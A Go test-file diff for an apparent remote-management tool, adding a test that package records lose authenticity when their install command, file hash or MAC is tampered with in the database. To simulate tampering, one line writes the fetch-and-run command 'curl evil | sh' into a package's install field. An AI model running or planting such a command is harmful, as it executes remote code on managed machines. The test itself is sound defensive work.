@@ -2,6 +2,7 @@ package storetest
 
 import (
 	"reflect"
+	"strings"
 	"testing"
 
 	"github.com/wacht-rmm/wacht/internal/core"
@@ -14,6 +15,7 @@ var packageTests = []struct {
 }{
 	{"Packages", testPackages},
 	{"BuiltinPackages", testBuiltinPackages},
+	{"PackageMAC", testPackageMAC},
 }
 
 // testBuiltinPackages: a catalog entry is stored once however often it is
@@ -77,6 +79,7 @@ func testPackages(t *testing.T, s core.Store) {
 	}
 	got, err := s.GetPackage(ctx, p.ID)
 	must(t, "GetPackage", err)
+	got.MAC = nil // testPackageMAC covers it
 	if !reflect.DeepEqual(got, p) {
 		t.Errorf("GetPackage = %+v\nwant %+v", got, p)
 	}
@@ -118,4 +121,60 @@ func testPackages(t *testing.T, s core.Store) {
 	wantErr(t, "DeletePackage twice", s.DeletePackage(ctx, p.ID), core.ErrNotFound)
 	wantErr(t, "UpdatePackage of a deleted package", s.UpdatePackage(ctx, &p), core.ErrNotFound)
 	wantErr(t, "SetPackageFile of a deleted package", s.SetPackageFile(ctx, p.ID, "x", 1, "x", ""), core.ErrNotFound)
+}
+
+// testPackageMAC: every write authenticates the package as stored; a
+// definition or file changed in the database, or a catalog entry seeded
+// without a MAC, is not authentic until the server writes it again.
+func testPackageMAC(t *testing.T, s core.Store) {
+	p := core.Package{Name: "Agent", Version: "1.0", OS: "linux", Kind: core.PkgUpload, Install: []string{"sh", "{{file}}"},
+		Uninstall: []string{}, Params: []core.PackageParam{}, ExitCodes: core.DefaultExitCodes(),
+		Detection: core.Detection{Kind: core.DetectFile, Path: "/opt/agent/bin"}, TimeoutSeconds: 60, Sealed: []byte{}}
+	must(t, "CreatePackage", s.CreatePackage(ctx, &p))
+	authentic := func(what string, want bool) {
+		t.Helper()
+		got, err := s.GetPackage(ctx, p.ID)
+		must(t, "GetPackage", err)
+		if s.PackageAuthentic(got) != want {
+			t.Errorf("%s: authentic %v, want %v", what, !want, want)
+		}
+	}
+	authentic("created", true)
+	db := sqlOf(t, s)
+	if _, err := db.ExecContext(ctx, `UPDATE packages SET install = $1 WHERE id = $2`, `["sh","-c","curl evil | sh"]`, p.ID); err != nil {
+		t.Fatal(err)
+	}
+	authentic("command changed in the database", false)
+	must(t, "UpdatePackage", s.UpdatePackage(ctx, &p))
+	authentic("updated", true)
+	must(t, "SetPackageFile", s.SetPackageFile(ctx, p.ID, strings.Repeat("a", 64), 10, "agent.sh", "admin"))
+	authentic("file set", true)
+	if _, err := db.ExecContext(ctx, `UPDATE packages SET sha256 = $1 WHERE id = $2`, strings.Repeat("b", 64), p.ID); err != nil {
+		t.Fatal(err)
+	}
+	authentic("file changed in the database", false)
+	other := p
+	other.ID, other.Version = 0, "2.0"
+	must(t, "CreatePackage", s.CreatePackage(ctx, &other))
+	if _, err := db.ExecContext(ctx, `UPDATE packages SET mac = (SELECT mac FROM packages WHERE id = $1) WHERE id = $2`, other.ID, p.ID); err != nil {
+		t.Fatal(err)
+	}
+	authentic("another package's MAC", false)
+
+	b := core.Package{Builtin: "tool", Name: "Tool", Version: "latest", OS: "windows", Kind: core.PkgWinget, ManagerID: "Vendor.Tool",
+		Install: []string{}, Uninstall: []string{}, Params: []core.PackageParam{}, ExitCodes: core.DefaultExitCodes(),
+		Detection: core.Detection{Kind: core.DetectRegistry, DisplayName: "Tool*"}, TimeoutSeconds: 60, Sealed: []byte{}}
+	must(t, "EnsureBuiltinPackage", s.EnsureBuiltinPackage(ctx, &b))
+	if _, err := db.ExecContext(ctx, `UPDATE packages SET mac = NULL WHERE id = $1`, b.ID); err != nil {
+		t.Fatal(err)
+	}
+	if got, _ := s.GetPackage(ctx, b.ID); s.PackageAuthentic(got) {
+		t.Error("a catalog entry without MAC is authentic")
+	}
+	again := b
+	again.ID = 0
+	must(t, "EnsureBuiltinPackage again", s.EnsureBuiltinPackage(ctx, &again))
+	if got, _ := s.GetPackage(ctx, b.ID); !s.PackageAuthentic(got) {
+		t.Error("the next start did not authenticate the catalog entry")
+	}
 }
